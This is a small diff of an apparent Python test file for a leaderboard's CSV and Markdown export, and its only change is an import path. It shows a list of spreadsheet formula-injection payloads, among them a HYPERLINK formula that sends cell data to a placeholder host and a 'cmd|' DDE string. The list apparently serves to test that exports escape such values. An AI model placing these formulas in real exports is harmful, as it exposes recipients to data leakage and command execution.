@@ -20,7 +20,7 @@ from midmask.leaderboard.entries import entries
 from midmask.leaderboard.export import as_csv, as_markdown
 from midmask.leaderboard.marks import Marks
 from midmask.leaderboard.rows import place_names, rows
-from tests.dashboards import compared
+from tests.support.dashboards import compared
 
 EVIL = [
     *('=HYPERLINK("http://host/?"&A1)', "@SUM(1)", "+1+cmd|A0", "-2+3", "\t=1", "\r=1", "\n=1", "x;=1+1", "two\nlines"),
